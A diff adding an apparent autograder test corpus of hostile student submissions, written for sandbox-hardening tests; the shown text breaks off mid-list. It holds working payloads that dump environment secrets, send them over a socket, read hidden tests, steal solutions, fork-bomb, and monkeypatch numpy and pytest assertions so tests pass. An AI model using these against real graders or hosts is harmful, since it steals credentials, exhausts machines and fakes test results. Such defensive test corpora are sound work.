@@ -1,0 +1,797 @@
+"""The hostile and broken submission corpus, generated at test time from solutions/ and exercises/.
+
+Every entry is a `Case`: a name, what it attacks, a builder that writes a small fork-shaped folder
+(``exercises/<id>/<id>.py`` and/or ``.ipynb``, ``metrics.json``, plus tampered extras) and the
+asserted `Expect`ation. Builders start from the reference solution (or the release) and patch one
+solution region with `grader.samples.replace_region`, so the corpus stays small and never drifts
+from the course. `tests/unit/test_corpus.py` grades each entry in the sandbox and checks it.
+
+Expectation rules: each test of the graded assignment is matched against the case's rules in
+order (regular expression searched in the test name); the first rule that matches gives the
+allowed outcomes and a feedback substring (any of several, case-insensitive) that must name the
+cause. A test no rule matches must grade as it does for the reference: passed (or skipped because
+it needs a GPU). So "the unaffected parts are graded normally" is checked for every case.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+import textwrap
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from grader.samples import replace_region
+
+M9 = "m9_roofline"
+GF = "gpu_fundamentals"
+
+# The fake secret the trusted process holds while grading the env-scanning case.
+FAKE_TOKEN = "ghp_CORPUSFAKEtoken0123456789abcdefABCDEF"
+# Written into the corpus course root's hidden tests and solutions: must never reach a result.
+CANARY = "CANARY-hidden-9f3e1c2a-never-in-a-result"
+
+# Limits of the corpus course (course.toml of the corpus root): real limits, scaled down so that
+# the timeout cases cost seconds, not minutes. The sandbox and the suites read them from there.
+CORPUS_LIMITS = {
+    "call_timeout_s": 5,
+    "kernel_timeout_s": 40,
+    "import_timeout_s": 6,
+    "submission_timeout_s": 60,
+}
+
+
+@dataclass
+class Ctx:
+    """What builders may use: the corpus course root and the reference texts."""
+
+    root: Path  # the corpus course root (a copy of the course with CORPUS_LIMITS)
+    solutions: dict[str, str]  # assignment id -> reference .py text
+    metrics: dict  # the reference metrics.json (m9 record + another milestone's key)
+    port: int = 0  # a TCP server the test started on 127.0.0.1
+    real_root: Path | None = None  # the repository the grader package lives in
+
+    @property
+    def release(self) -> Path:
+        return self.root / "exercises"
+
+
+@dataclass
+class Rule:
+    pattern: str  # regex searched in the test name ("suite/test_name[param]")
+    outcomes: tuple[str, ...]
+    feedback: tuple[str, ...] = ()  # one of these substrings (case-insensitive) must appear
+    required: bool = True  # at least one test must match this rule
+
+
+@dataclass
+class Expect:
+    assignment: str
+    rules: list[Rule] = field(default_factory=list)
+    error: tuple[str, ...] = ()  # substrings of the assignment-wide error (any of)
+    warnings: tuple[str, ...] = ()  # each must appear in some warning
+    max_s: float = 40.0  # wall-time bound of the whole grading
+    limits: dict[str, Any] = field(default_factory=dict)  # per-case sandbox limits override
+    check: Callable[[Any, Ctx], None] | None = None  # extra assertions on the GradeResult
+
+
+@dataclass
+class Case:
+    name: str
+    attacks: str
+    build: Callable[[Path, Ctx], None]
+    expect: Expect
+    slow: bool = False
+    env: dict[str, str] = field(default_factory=dict)  # set in the trusted process while grading
+
+
+# ----------------------------------------------------------------------------- source helpers
+
+
+def _cell_bounds(lines: list[str], grade_id: str) -> tuple[int, int]:
+    head = next(i for i, line in enumerate(lines)
+                if line.startswith("# %%") and f'"grade_id": "{grade_id}"' in line)
+    end = next((i for i in range(head + 1, len(lines)) if lines[i].startswith("# %%")),
+               len(lines))
+    return head, end
+
+
+def replace_cell(source: str, grade_id: str, code: str) -> str:
+    """Replace the whole body of cell `grade_id` (header kept) with `code`."""
+    lines = source.splitlines()
+    head, end = _cell_bounds(lines, grade_id)
+    return "\n".join(lines[: head + 1] + code.strip("\n").splitlines() + [""] + lines[end:]) + "\n"
+
+
+def insert_cell_before(source: str, grade_id: str, code: str) -> str:
+    """A new untagged code cell just before cell `grade_id` (it runs at import time)."""
+    lines = source.splitlines()
+    head, _ = _cell_bounds(lines, grade_id)
+    new = ["# %%", *code.strip("\n").splitlines(), ""]
+    return "\n".join(lines[:head] + new + lines[head:]) + "\n"
+
+
+def patch(source: str, grade_id: str, body: str) -> str:
+    return replace_region(source, grade_id, textwrap.dedent(body).strip("\n").splitlines())
+
+
+def to_ipynb(py_text: str) -> str:
+    import jupytext
+
+    return jupytext.writes(jupytext.reads(py_text, fmt="py:percent"), fmt="ipynb")
+
+
+def write_fork(dest: Path, sources: dict[str, str] | None = None, metrics: Any = "ref",
+               ctx: Ctx | None = None, ipynb: dict[str, str] | None = None) -> None:
+    """exercises/<id>/<id>.py (and .ipynb) plus metrics.json ("ref": the reference record)."""
+    for aid, text in (sources or {}).items():
+        folder = dest / "exercises" / aid
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"{aid}.py").write_text(text, encoding="utf-8")
+    for aid, text in (ipynb or {}).items():
+        folder = dest / "exercises" / aid
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"{aid}.ipynb").write_text(text, encoding="utf-8")
+    if metrics == "ref":
+        assert ctx is not None
+        metrics = ctx.metrics
+    if metrics is not None:
+        dest.mkdir(parents=True, exist_ok=True)
+        text = metrics if isinstance(metrics, str) else json.dumps(metrics, indent=2)
+        (dest / "metrics.json").write_text(text, encoding="utf-8")
+
+
+def patched(aid: str, grade_id: str, body: str) -> Callable[[Path, Ctx], None]:
+    """Builder: the reference with one solution region replaced, reference metrics.json."""
+
+    def build(dest: Path, ctx: Ctx) -> None:
+        write_fork(dest, {aid: patch(ctx.solutions[aid], grade_id, body)}, ctx=ctx)
+
+    return build
+
+
+def with_source(aid: str, edit: Callable[[str, Ctx], str], metrics: Any = "ref"):
+    def build(dest: Path, ctx: Ctx) -> None:
+        write_fork(dest, {aid: edit(ctx.solutions[aid], ctx)}, metrics=metrics, ctx=ctx)
+
+    return build
+
+
+def _fn(name: str) -> str:
+    """Regex for the tests of graded function `name` (its own and the invalid-input cases)."""
+    return rf"(^|/)test_{name}(_|\[|$)|\[{name}\("
+
+
+OK = ("passed",)
+KV = r"test_kv_bytes|\[kv_bytes_per_token\("
+CASCADE_KV = r"test_(decode_intensity|crossover_batch|m9_record_)"
+# Tests that fail for the reference itself in the sandbox (a suite bug): they may fail in any
+# case; a rule that names them still applies first. Empty since hidden/test_save_metric_keeps_
+# other_keys reads its file back through the worker (commit aab025d).
+KNOWN_BROKEN: set[str] = set()
+BROKEN = ("failed", "error")
+ALL_STUDENT = r"^(public|hidden)/test_(?!metrics)"  # refined per suite in _student_tests()
+
+
+def _student_tests(aid: str) -> str:
+    """Tests that call student code (every test except those that only read metrics.json)."""
+    return r"^(public|hidden)/test_(?!.*metrics)" if aid == M9 else r"^(public|hidden)/test_"
+
+
+# ----------------------------------------------------------------------------- checks
+
+
+def _json_of(result) -> str:
+    return result.to_json()
+
+
+def _no_token(result, ctx: Ctx) -> None:
+    text = _json_of(result)
+    assert FAKE_TOKEN not in text, "the grader's GITHUB_TOKEN reached the result"
+    assert FAKE_TOKEN[4:20] not in text
+
+
+def _no_canary(result, ctx: Ctx) -> None:
+    text = _json_of(result)
+    assert CANARY not in text, "hidden-test or solution content reached the result"
+    assert "def test_" not in text, "source code of a test file reached the result"
+    assert "### BEGIN SOLUTION" not in text
+
+
+# ----------------------------------------------------------------------------- hostile code
+
+READ_HIDDEN = r'''
+import os, time
+from pathlib import Path
+found = []
+candidates = [Path({root!r}) / "tests" / "hidden", Path({root!r}) / "solutions"]
+try:
+    import grader
+    repo = Path(grader.__file__).resolve().parent.parent
+    candidates += [repo / "tests" / "hidden", repo / "solutions"]
+except Exception:
+    pass
+for folder in candidates:
+    try:
+        for p in sorted(folder.rglob("*")):
+            if p.is_file():
+                found.append(p.read_text(errors="replace")[:2000])
+    except OSError:
+        pass
+t0 = time.monotonic()
+for dirpath, dirnames, filenames in os.walk("/"):
+    dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64",
+                                                  "bin", "sbin", "etc", "var", "boot", "snap")]
+    if time.monotonic() - t0 > 3:
+        break
+    parts = Path(dirpath).parts
+    if ("hidden" in parts and "tests" in parts) or "solutions" in parts:
+        for f in filenames:
+            try:
+                found.append(Path(dirpath, f).read_text(errors="replace")[:2000])
+            except OSError:
+                pass
+return "\n".join(found)
+'''
+
+CHEAT_WITH_SOLUTIONS = r'''
+import os, time, types
+from pathlib import Path
+places = [Path({root!r}) / "solutions" / "m9_roofline" / "m9_roofline.py"]
+try:
+    import grader
+    places.append(Path(grader.__file__).resolve().parent.parent / "solutions" / "m9_roofline"
+                  / "m9_roofline.py")
+except Exception:
+    pass
+t0 = time.monotonic()
+for dirpath, dirnames, filenames in os.walk("/"):
+    dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64")]
+    if time.monotonic() - t0 > 3:
+        break
+    if "m9_roofline.py" in filenames and "solutions" in Path(dirpath).parts:
+        places.append(Path(dirpath) / "m9_roofline.py")
+for place in places:
+    try:
+        text = place.read_text()
+    except OSError:
+        continue
+    ref = types.ModuleType("stolen")
+    try:
+        exec(compile(text.split("# %% [markdown]\n# ## 9.")[0], "stolen", "exec"), ref.__dict__)
+        return ref.kv_bytes_per_token(cfg, dtype_bytes)
+    except Exception:
+        continue
+return 0
+'''
+
+MONKEYPATCH = '''
+import builtins, math
+import numpy
+import numpy.testing
+numpy.testing.assert_allclose = lambda *a, **k: None
+numpy.testing.assert_array_equal = lambda *a, **k: None
+numpy.array_equal = lambda *a, **k: True
+numpy.allclose = lambda *a, **k: True
+numpy.isclose = lambda *a, **k: True
+math.isclose = lambda *a, **k: True
+builtins.isinstance = (lambda f: (lambda obj, cls: True if cls is int else f(obj, cls)))(
+    builtins.isinstance)
+try:
+    import pytest
+    pytest.approx = lambda expected, *a, **k: type("Yes", (), {"__eq__": lambda s, o: True})()
+except Exception:
+    pass
+import sys
+sys.modules["pytest"] = None
+'''
+
+# ----------------------------------------------------------------------------- the entries
+
+
+def _broken_notebook(feedback: tuple[str, ...], aid: str = M9, max_s: float = 30.0,
+                     **kw) -> Expect:
+    return Expect(aid, [Rule(_student_tests(aid), BROKEN + ("timeout",), feedback)],
+                  max_s=max_s, **kw)
+
+
+def _untouched_release_with_tampering(dest: Path, ctx: Ctx) -> None:
+    shutil.copytree(ctx.release / M9, dest / "exercises" / M9)
+    write_fork(dest, metrics="ref", ctx=ctx)
+    for rel, text in {
+        "conftest.py": "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\n"
+                       "def pytest_runtest_makereport(item, call):\n"
+                       "    out = yield\n    out.get_result().outcome = 'passed'\n",
+        f"tests/public/{M9}/test_free_points.py":
+            "import pytest\n\n@pytest.mark.points(100)\ndef test_free():\n    assert True\n",
+        f"tests/hidden/{M9}/test_m9_roofline_hidden.py": "def test_nothing():\n    pass\n",
+        "grader/plugin.py": "raise SystemExit('pwned')\n",
+        "grader/suites.py": "def run_assignment(*a, **k):\n    return 'full marks'\n",
+        ".github/workflows/grade.yml": "on: pull_request_target\njobs: {}\n",
+        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p no:grader'\n",
+        "course.toml": "[limits]\ncall_timeout_s = 100000\n",
+    }.items():
+        p = dest / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text(text, encoding="utf-8")
+
+
+def _symlinks(dest: Path, ctx: Ctx) -> None:
+    folder = dest / "exercises" / M9
+    folder.mkdir(parents=True)
+    # The graded notebook is a symlink to the reference solution: full marks if it were followed.
+    (folder / f"{M9}.py").symlink_to(ctx.root / "solutions" / M9 / f"{M9}.py")
+    (folder / "passwd.txt").symlink_to("/etc/passwd")
+    (dest / "metrics.json").symlink_to(ctx.root / "solutions" / "metrics-canary.json")
+
+
+def _dotdot(dest: Path, ctx: Ctx) -> None:
+    write_fork(dest, {M9: ctx.solutions[M9]}, ctx=ctx)
+    folder = dest / "exercises" / M9
+    (folder / "..evil.py").write_text("raise SystemExit\n")
+    (dest / "exercises" / "..hidden").mkdir()
+    (dest / "exercises" / "..hidden" / "x.py").write_text("x = 1\n")
+    (folder / "notes..md").write_text("two dots\n")
+
+
+def _ipynb_only(dest: Path, ctx: Ctx) -> None:
+    write_fork(dest, ipynb={M9: to_ipynb(ctx.solutions[M9])}, ctx=ctx)
+
+
+def _disagree(dest: Path, ctx: Ctx) -> None:
+    # .py: the untouched release (no work); .ipynb: the solution (Colab edits the notebook).
+    folder = dest / "exercises" / M9
+    folder.mkdir(parents=True)
+    shutil.copy(ctx.release / M9 / f"{M9}.py", folder / f"{M9}.py")
+    write_fork(dest, ipynb={M9: to_ipynb(ctx.solutions[M9])}, ctx=ctx)
+
+
+def _both_changed(dest: Path, ctx: Ctx) -> None:
+    # Both changed and different: the .ipynb is graded (with a warning). The .py is the solution,
+    # the .ipynb the solution with num_params broken: num_params tests fail, proving which was run.
+    broken = patch(ctx.solutions[M9], "save_metric", "return None")
+    write_fork(dest, {M9: ctx.solutions[M9]}, ipynb={M9: to_ipynb(broken)}, ctx=ctx)
+
+
+def _corrupt_ipynb(dest: Path, ctx: Ctx) -> None:
+    write_fork(dest, ipynb={M9: '{"cells": [ {"cell_type": "code", "source": "x = 1"'}, ctx=ctx)
+
+
+def _corrupt_ipynb_with_release_py(dest: Path, ctx: Ctx) -> None:
+    folder = dest / "exercises" / M9
+    folder.mkdir(parents=True)
+    shutil.copy(ctx.release / M9 / f"{M9}.py", folder / f"{M9}.py")
+    write_fork(dest, ipynb={M9: "\x00\x01 not json at all"}, ctx=ctx)
+
+
+def _huge_outputs(dest: Path, ctx: Ctx) -> None:
+    import jupytext
+    import nbformat
+
+    nb = jupytext.reads(ctx.solutions[M9], fmt="py:percent")
+    blob = "x" * (1 << 20)
+    out = nbformat.v4.new_output("stream", name="stdout", text=[blob] * 50)
+    demo = next(c for c in nb.cells if "demo" in c.metadata.get("tags", []))
+    demo.outputs = [out]
+    demo.execution_count = 1
+    write_fork(dest, ipynb={M9: nbformat.writes(nb)}, ctx=ctx)
+
+
+def _non_ascii(dest: Path, ctx: Ctx) -> None:
+    src = ctx.solutions[M9]
+    src = insert_cell_before(src, "validate_config", '# Modèle « cours » — 模型 🚀\n'
+                             'ÉTIQUETTE = "décodage à batch 1 ✓ 解码"\nπ = 3.14159\n'
+                             'def größe(x):\n    return x * π\n')
+    src = patch(src, "num_params", '''
+        validate_config(cfg)
+        dim = cfg["dim"]  # größe: ≈ 1.3 M paramètres
+        kopf = dim // cfg["n_heads"]
+        kv = cfg["n_kv_heads"] * kopf
+        einbettung = cfg["vocab_size"] * dim
+        tête = 0 if cfg["tied_embeddings"] else cfg["vocab_size"] * dim
+        schicht = 2 * dim * dim + 2 * dim * kv + 3 * dim * cfg["ffn_hidden_dim"] + 2 * dim
+        return int(einbettung + tête + cfg["n_layers"] * schicht + dim)
+    ''')
+    write_fork(dest, {M9: src}, ctx=ctx)
+    (dest / "exercises" / M9 / "données_é_模型.csv").write_text("clé,valeur\nπ,3.14\n",
+                                                                encoding="utf-8")
+
+
+def _metrics(value: Any) -> Callable[[Path, Ctx], None]:
+    def build(dest: Path, ctx: Ctx) -> None:
+        v = value(ctx) if callable(value) else value
+        write_fork(dest, {M9: ctx.solutions[M9]}, metrics=v, ctx=ctx)
+
+    return build
+
+
+def _forged(ctx: Ctx) -> dict:
+    rec = dict(ctx.metrics[M9])
+    rec.update(intensity_b1=0.5, intensity_b8=4.0, intensity_b32=16.0, crossover_batch=64,
+               conclusion="At batch 1 decode is deeply bandwidth-bound.")
+    return {**ctx.metrics, M9: rec}
+
+
+def _nan_strings(ctx: Ctx) -> str:
+    rec = dict(ctx.metrics[M9])
+    text = json.dumps({**ctx.metrics, M9: {**rec, "intensity_b1": "__NAN__",
+                                            "intensity_b8": "4.0", "intensity_b32": "lots"}})
+    return text.replace('"__NAN__"', "NaN")
+
+
+def _hundred_mb(dest: Path, ctx: Ctx) -> None:
+    write_fork(dest, {M9: ctx.solutions[M9]}, metrics=None, ctx=ctx)
+    with (dest / "metrics.json").open("w") as fh:
+        fh.write('{"m9_roofline": ' + json.dumps(ctx.metrics[M9]) + ', "padding": "')
+        chunk = "x" * (1 << 20)
+        for _ in range(100):
+            fh.write(chunk)
+        fh.write('"}')
+
+
+def prepend(source: str, grade_id: str, code: str) -> str:
+    """Run `code` first, then the reference body of `grade_id`."""
+    body = textwrap.dedent(code).strip("\n") + "\n" + _region(source, grade_id)
+    return replace_region(source, grade_id, body.splitlines())
+
+
+def _socket(src: str, ctx: Ctx) -> str:
+    return prepend(src, "m9_record", f'''
+        import socket as _socket
+        if not globals().get("_sent"):
+          globals()["_sent"] = True
+          try:
+            with _socket.create_connection(("127.0.0.1", {ctx.port}), timeout=2) as _s:
+                _s.sendall(b"exfiltrated " + repr(sorted(__import__("os").environ)).encode())
+          except OSError:
+            pass
+    ''')
+
+
+def _region(source: str, grade_id: str) -> str:
+    lines = source.splitlines()
+    head, _ = _cell_bounds(lines, grade_id)
+    begin = next(i for i in range(head, len(lines)) if "### BEGIN SOLUTION" in lines[i])
+    end = next(i for i in range(begin, len(lines)) if "### END SOLUTION" in lines[i])
+    return textwrap.dedent("\n".join(lines[begin + 1: end]))
+
+
+def _env_scan(src: str, ctx: Ctx) -> str:
+    src = insert_cell_before(src, "validate_config",
+                             'import os as _os\nprint("ENV", dict(_os.environ))\n'
+                             'import sys as _sys\n_sys.stderr.write(repr(dict(_os.environ)))\n')
+    return patch(src, "m9_record", '''
+        import os
+        return {"conclusion": repr(dict(os.environ)), "environ": dict(os.environ)}
+    ''')
+
+
+def _process_table_clean(result, ctx: Ctx) -> None:
+    import subprocess
+
+    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
+    assert "corpus-fork-bomb" not in out, "fork-bomb children outlived the worker"
+
+
+CASES: list[Case] = [
+    # --- broken Python ---------------------------------------------------------------------
+    Case("syntax_error_one_cell", "a syntax error in one cell (save_metric)",
+         with_source(M9, lambda s, c: replace_cell(s, "save_metric",
+                                                   "def save_metric(path, key, value:\n    pass")),
+         _broken_notebook(("SyntaxError",))),
+    Case("import_missing_module", "imports a module that does not exist, at import time",
+         with_source(M9, lambda s, c: insert_cell_before(
+             s, "validate_config", "import no_such_module_corpus_xyz\n")),
+         _broken_notebook(("ModuleNotFoundError",))),
+    Case("function_missing", "a graded function (save_metric) deleted",
+         with_source(M9, lambda s, c: replace_cell(s, "save_metric", "pass")),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("save_metric is not defined",))])),
+    Case("function_renamed", "save_metric renamed to save_metrics",
+         with_source(M9, lambda s, c: s.replace("def save_metric(", "def save_metrics(")),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("save_metric is not defined",))])),
+    Case("wrong_signature", "save_metric(path, key): the value argument dropped",
+         with_source(M9, lambda s, c: s.replace("def save_metric(path, key, value):",
+                                                "def save_metric(path, key):\n    value = None")),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("TypeError", "argument"))])),
+    Case("returns_none", "m9_record returns None",
+         patched(M9, "m9_record", "return None"),
+         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("None",))])),
+    Case("returns_string", "kv_bytes_per_token returns a string (\"1024\")",
+         patched(M9, "kv_bytes_per_token", 'return "1024"'),
+         Expect(M9, [Rule(KV, BROKEN, ("'1024'",)),
+                     Rule(r"\[(decode_intensity|crossover_batch)\(", OK, ()),
+                     Rule(CASCADE_KV, BROKEN, ("TypeError", "str"))])),
+    Case("returns_nan", "ridge_point returns NaN",
+         patched(GF, "ridge_point", 'return float("nan")'),
+         Expect(GF, [Rule(_fn("ridge_point"), BROKEN, ("nan",)),
+                     Rule(r"\[is_memory_bound\(-1", OK, ()),
+                     Rule("is_memory_bound", BROKEN, ("memory-bound", "returned"))],
+                max_s=60), slow=True),
+    Case("returns_million_list", "m9_record returns a list of a million items",
+         patched(M9, "m9_record", "return list(range(1_000_000))"),
+         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("got list", "returned"))],
+                check=lambda r, c: _small(r))),
+    Case("eq_always_true", "m9_record returns an object whose __eq__ is always True",
+         patched(M9, "m9_record", '''
+             class Liar(dict):
+                 def __eq__(self, other):
+                     return True
+                 def __ne__(self, other):
+                     return False
+                 def __contains__(self, key):
+                     return True
+             return Liar()
+         '''),
+         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("not plain data",))])),
+    # --- resource abuse ----------------------------------------------------------------------
+    Case("infinite_loop_at_import", "while True at import time",
+         with_source(M9, lambda s, c: insert_cell_before(s, "validate_config",
+                                                         "while True:\n    pass\n")),
+         _broken_notebook(("took longer than", "time budget"), max_s=80,
+                          limits={"submission_timeout_s": 40}),
+         slow=True),
+    Case("infinite_loop_in_function", "while True inside m9_record only",
+         patched(M9, "m9_record", "while True:\n    pass"),
+         Expect(M9, [Rule(_fn("m9_record"), ("timeout", "failed"), ("took longer than",))],
+                max_s=60),
+         slow=True),
+    Case("sleep_forever", "time.sleep(10**6) in save_metric",
+         patched(M9, "save_metric", "import time\ntime.sleep(10**6)"),
+         Expect(M9, [Rule(_fn("save_metric"), ("timeout", "failed"), ("took longer than",))],
+                max_s=60),
+         slow=True),
+    Case("memory_bomb_huge", "asks for 64 GB at once in save_metric (RLIMIT_AS refuses it)",
+         patched(M9, "save_metric", "hog = bytearray(64 << 30)"),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("MemoryError",))])),
+    Case("memory_bomb", "allocates 1 GB chunks until the address-space limit in save_metric "
+         "(on a slow machine the call timeout may come first: both are bounded and named)",
+         patched(M9, "save_metric", '''
+             hog = []
+             while True:
+                 hog.append(bytearray(1 << 30))
+         '''),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN + ("timeout",),
+                          ("MemoryError", "took longer than"))], max_s=60)),
+    Case("fork_bomb_bounded", "forks 500 sleeping children (corpus-fork-bomb) in save_metric",
+         patched(M9, "save_metric", '''
+             import os, sys, time
+             for _ in range(500):
+                 if os.fork() == 0:
+                     sys.argv[:] = ["corpus-fork-bomb"]
+                     time.sleep(600)
+                     os._exit(0)
+             return {}
+         '''),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN + ("timeout",),
+                          ("BlockingIOError", "Resource temporarily unavailable", "took longer",
+                           "worker"))],
+                check=_process_table_clean)),
+    Case("os_exit_mid_test", "os._exit(0) inside save_metric",
+         patched(M9, "save_metric", "import os\nos._exit(0)"),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("exited with code 0",))])),
+    Case("segfault_ctypes", "dereferences NULL through ctypes in save_metric",
+         patched(M9, "save_metric", "import ctypes\nctypes.string_at(0)"),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("SIGSEGV",))])),
+    Case("stdout_1gb", "prints 1 GB to stdout once, then answers correctly (m9_record)",
+         with_source(M9, lambda s, c: prepend(s, "m9_record", '''
+             import sys
+             if not globals().get("_printed_1gb"):
+                 globals()["_printed_1gb"] = True
+                 _chunk = "x" * (1 << 20)
+                 for _ in range(1024):
+                     sys.stdout.write(_chunk)
+                 sys.stdout.flush()
+         ''')),
+         Expect(M9, [Rule(_fn("m9_record"), OK + ("timeout",), (), required=False)],
+                max_s=120, check=lambda r, c: _small(r)),
+         slow=True),
+    Case("file_1gb", "writes 1 GB to a file in its working directory (save_metric)",
+         patched(M9, "save_metric", '''
+             with open("big.bin", "wb") as fh:
+                 for _ in range(1024):
+                     fh.write(b"x" * (1 << 20))
+         '''),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("File too large", "Errno 27"))])),
+    # --- kernels -----------------------------------------------------------------------------
+    Case("kernel_no_bounds_check", "vector_add without `if i < c.size`",
+         patched(GF, "vector_add", "i = cuda.grid(1)\nc[i] = a[i] + b[i]"),
+         Expect(GF, [Rule(r"test_vector_add_(small|sizes)|test_gpu_vector_add", BROKEN,
+                          ("out of bounds", "IndexError")),
+                     Rule(r"test_vector_add_(float64|compiles)", OK + BROKEN, (), required=False)],
+                max_s=60), slow=True),
+    Case("kernel_wrong_index", "vector_add uses threadIdx.x only (no block offset)",
+         patched(GF, "vector_add", "i = cuda.threadIdx.x\nif i < c.size:\n    c[i] = a[i] + b[i]"),
+         Expect(GF, [Rule(r"test_vector_add_sizes\[1\]", OK, ()),  # one element: one thread
+                     # random n and block size drawn at grading time: one block passes
+                     Rule(r"test_vector_add_sizes\[25[57]\]|test_gpu_vector_add_random",
+                          OK + BROKEN, ("differ",), required=False),
+                     Rule(r"test_vector_add_(small|sizes|float64|compiles)|"
+                          r"test_gpu_vector_add_small", BROKEN, ("differ",))],
+                max_s=60), slow=True),
+    Case("kernel_writes_input", "vector_add writes its result into its input a",
+         patched(GF, "vector_add", "i = cuda.grid(1)\nif i < c.size:\n    a[i] = a[i] + b[i]\n"
+                                   "    c[i] = a[i]"),
+         # compiles_to_ptx launches vector_add(a, a, c): both inputs travel as separate copies
+         # and the untouched copy of `a` is copied back last, so that test passes.
+         Expect(GF, [Rule(r"test_vector_add_compiles", OK, ()),
+                     Rule(r"test_vector_add_(small|float64)", BROKEN, ("differ",)),
+                     Rule(r"test_vector_add_sizes", BROKEN, ("changed its inputs",))],
+                max_s=60), slow=True),
+    Case("kernel_not_ptx", "vector_add uses a dict: fine in the simulator, not compilable",
+         patched(GF, "vector_add", "i = cuda.grid(1)\nif i < c.size:\n    d = {}\n"
+                                   "    d[0] = a[i]\n    c[i] = d[0] + b[i]"),
+         Expect(GF, [Rule(r"test_vector_add_compiles_to_ptx", ("failed",),
+                          ("does not compile for the course GPU",))], max_s=60), slow=True),
+    Case("grid_too_small", "gpu_vector_add launches n // tpb blocks (rounds down)",
+         patched(GF, "gpu_vector_add", '''
+             a = np.asarray(a)
+             b = np.asarray(b)
+             d_a = cuda.to_device(np.ascontiguousarray(a).ravel())
+             d_b = cuda.to_device(np.ascontiguousarray(b).ravel())
+             d_c = cuda.to_device(np.zeros(a.size, dtype=np.result_type(a, b)))
+             blocks = max(1, a.size // threads_per_block)
+             vector_add[blocks, threads_per_block](d_a, d_b, d_c)
+             return d_c.copy_to_host().reshape(a.shape)
+         '''),
+         Expect(GF, [Rule(r"test_gpu_vector_add_random", OK + BROKEN, ("differ",),
+                          required=False),  # random n < block size: one block is enough
+                     Rule(r"test_gpu_vector_add_small", BROKEN, ("differ",)),
+                     Rule(r"gpu_vector_add\(shape", BROKEN + OK, (), required=False)],
+                max_s=60), slow=True),
+    # --- metrics.json ------------------------------------------------------------------------
+    Case("metrics_missing", "no metrics.json", _metrics(None),
+         Expect(M9, [Rule("metrics", BROKEN, ("metrics.json not found",))])),
+    Case("metrics_corrupt", "metrics.json is not JSON", _metrics('{"m9_roofline": {"intens'),
+         Expect(M9, [Rule("metrics", BROKEN, ("not valid JSON",))])),
+    Case("metrics_nan_strings", "NaN and strings in place of numbers", _metrics(_nan_strings),
+         Expect(M9, [Rule(r"metrics_recomputed\[intensity_b", BROKEN, ("intensity_b",))])),
+    Case("metrics_forged", "the five seed keys hand-written, not matching the recorded config",
+         _metrics(_forged),
+         Expect(M9, [Rule(r"metrics_recomputed\[(intensity_b|crossover)", BROKEN,
+                          ("recomputed from the recorded model",))])),
+    Case("metrics_100mb", "a 100 MB metrics.json", _hundred_mb,
+         Expect(M9, [Rule("metrics", BROKEN, ("metrics.json not found", "MB"))],
+                warnings=("metrics.json",))),
+    Case("metrics_other_keys", "other milestones' keys beside m9_roofline are kept and ignored",
+         _metrics(lambda c: {"m1_tokenizer": {"vocab": 4096}, **c.metrics,
+                             "m10_serving": [1, 2, 3]}),
+         Expect(M9, [])),
+    Case("save_metric_drops_keys", "save_metric overwrites the file with its key only",
+         patched(M9, "save_metric", '''
+             with open(path, "w") as fh:
+                 json.dump({key: value}, fh)
+         '''),
+         Expect(M9, [Rule(_fn("save_metric"), BROKEN, ("key", "keep", "did not create"))])),
+    # --- tampering ---------------------------------------------------------------------------
+    Case("reads_hidden_tests", "m9_record returns the text of tests/hidden and solutions "
+         "(by path from the course root and grader.__file__, and by walking /)",
+         with_source(M9, lambda s, c: patch(s, "m9_record", READ_HIDDEN.format(
+             root=str(c.root)))),
+         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ("got str", "returned"))],
+                check=_no_canary)),
+    Case("cheats_with_solutions", "kv_bytes_per_token imports the reference solution if it can "
+         "find it, else returns 0",
+         with_source(M9, lambda s, c: patch(s, "kv_bytes_per_token", CHEAT_WITH_SOLUTIONS.format(
+             root=str(c.root)))),
+         Expect(M9, [Rule(KV, BROKEN, ()),
+                     Rule(r"\[(decode_intensity|crossover_batch)\(|without_kv_cache", OK, ()),
+                     Rule(CASCADE_KV, BROKEN, ())], check=_no_canary)),
+    Case("env_token_scan", "prints the environment at import and returns it from m9_record",
+         with_source(M9, _env_scan),
+         Expect(M9, [Rule(_fn("m9_record"), BROKEN, ())], check=_no_token),
+         env={"GITHUB_TOKEN": FAKE_TOKEN, "GRADER_PAT": FAKE_TOKEN}),
+    Case("socket_to_localhost", "m9_record connects to a server on 127.0.0.1 and sends data",
+         with_source(M9, _socket),
+         Expect(M9, [])),  # the test asserts the server saw nothing when no-network is active
+    Case("edits_tests_and_grader", "an untouched release plus edits to conftest.py, tests/, "
+         "grader/, workflows, pyproject.toml and course.toml", _untouched_release_with_tampering,
+         Expect(M9, [Rule(_student_tests(M9), BROKEN, ("not done yet", "NotImplementedError"))],
+                warnings=("conftest.py", "tests/public/m9_roofline/test_free_points.py",
+                          "grader/plugin.py", ".github/workflows/grade.yml", "pyproject.toml",
+                          "course.toml"))),
+    Case("monkeypatches_worker", "patches numpy, math, builtins and pytest inside the worker, "
+         "with a wrong num_params",
+         with_source(M9, lambda s, c: patch(insert_cell_before(s, "validate_config", MONKEYPATCH),
+                                            "num_params", "return 7")),
+         Expect(M9, [Rule(r"\[(decode_intensity|crossover_batch|m9_record|kv_bytes)|"
+                          r"without_kv_cache|test_crossover_batch_(examples|none)", OK, ()),
